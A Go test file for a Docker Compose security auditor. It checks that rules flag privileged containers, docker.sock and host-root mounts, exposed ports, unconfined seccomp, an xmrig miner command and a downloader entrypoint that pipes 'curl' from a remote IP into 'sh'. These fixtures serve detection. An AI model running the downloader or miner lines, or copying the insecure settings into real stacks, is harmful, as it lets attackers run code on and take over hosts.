package compose

import (
	"context"
	"testing"

	"github.com/minewarden/minewarden"
	"github.com/minewarden/minewarden/internal/audittest"
)

func files() []audittest.File {
	f := func(name, lines string, fails ...string) audittest.File {
		return audittest.File{Name: name, Path: "stack/compose.yaml", Text: "services:\n  web:\n    image: app:1\n" + lines, Fails: fails}
	}
	return []audittest.File{
		f("sound", "    ports: [\"127.0.0.1:8500:8500\", \"443:443\"]\n    volumes: [\"data:/data\", \"./conf:/etc/app:ro\", \"/etc/localtime:/etc/localtime:ro\"]\n    cap_add: [NET_BIND_SERVICE]\n"),
		{Name: "privileged, by line", Path: "docker-compose.yml", Text: "services:\n  web:\n    image: app\n    privileged: true\n", Fails: []string{rulePrivileged}, Line: 4},
		f("privileged through an anchor", "    <<: &base {privileged: true}\n", rulePrivileged),
		f("docker.sock, short", "    volumes: [\"/var/run/docker.sock:/var/run/docker.sock:ro\"]\n", ruleSocket),
		f("docker.sock, long", "    volumes:\n      - {type: bind, source: /var/run/docker.sock, target: /s}\n", ruleSocket),
		f("root of the host", "    volumes: [\"/:/host:ro\"]\n", ruleHostRoot),
		f("etc for writing", "    volumes: [\"/etc:/e\"]\n", ruleHostRoot),
		f("a file of etc for writing", "    volumes: [\"/etc/app:/e\"]\n", ruleHostPath),
		f("a variable", "    volumes: [\"${DIR:-/srv}:/e\"]\n"),
		f("pid", "    pid: host\n", rulePID),
		f("pid of another service", "    pid: \"service:db\"\n"),
		f("network", "    network_mode: host\n", ruleNetwork),
		f("ipc and user namespace", "    ipc: host\n    userns_mode: host\n", ruleIPC),
		f("capabilities", "    cap_add: [CHOWN, SYS_PTRACE]\n", ruleCaps),
		f("seccomp", "    security_opt: [\"seccomp=unconfined\"]\n", ruleConfined),
		f("no new privileges", "    security_opt: [\"no-new-privileges:true\"]\n"),
		f("a disk", "    devices: [\"/dev/sda:/dev/sda\"]\n", ruleDevices),
		f("a sound card", "    devices: [\"/dev/snd:/dev/snd\"]\n"),
		f("Consul for all", "    ports: [\"8500:8500\"]\n", rulePublished),
		f("Nomad for all, long", "    ports:\n      - {target: 4646, published: 80}\n", rulePublished),
		f("Nomad for all, IPv6", "    ports: [\"[::]:4646:4646\"]\n", rulePublished),
		f("not published", "    expose: [8500]\n"),
		f("dind without TLS", "    environment: [\"DOCKER_HOST=tcp://docker:2375\"]\n", ruleDockerTLS),
		{Name: "dind that serves without TLS", Path: "compose.yaml", Text: "services:\n  d:\n    image: docker:27-dind\n    environment: {DOCKER_TLS_CERTDIR: \"\"}\n", Fails: []string{ruleDockerTLS}},
		{Name: "consul -dev for all", Path: "compose.yaml", Text: "services:\n  c:\n    image: hashicorp/consul:1.21\n    command: agent -dev -client 0.0.0.0\n", Fails: []string{ruleFlags}},
		{Name: "gitea with hooks", Path: "compose.yaml", Text: "services:\n  g:\n    image: gitea/gitea:1.26\n    environment:\n      - GITEA__security__DISABLE_GIT_HOOKS=false\n", Fails: []string{ruleEnv}},
		f("a miner", "    command: [\"xmrig\", \"-o\", \"pool.example.org:3333\"]\n", ruleMiner),
		f("a downloader", "    entrypoint: sh -c \"curl -s http://198.51.100.7/i.sh | sh\"\n", ruleDownloader),
	}
}

func TestComposeFiles(t *testing.T) { audittest.Files(t, New, files()) }

func FuzzCompose(f *testing.F) {
	for _, x := range files() {
		f.Add([]byte(x.Text))
	}
	a, err := New(minewarden.Env{})
	if err != nil {
		f.Fatal(err)
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		if len(data) > 1<<16 {
			return
		}
		if v, err := a.Audit(context.Background(), minewarden.Target{Kind: minewarden.TargetFile, Path: "compose.yaml", Data: data}); err != nil && v.Applies {
			t.Error("an error, and a verdict")
		}
	})
}
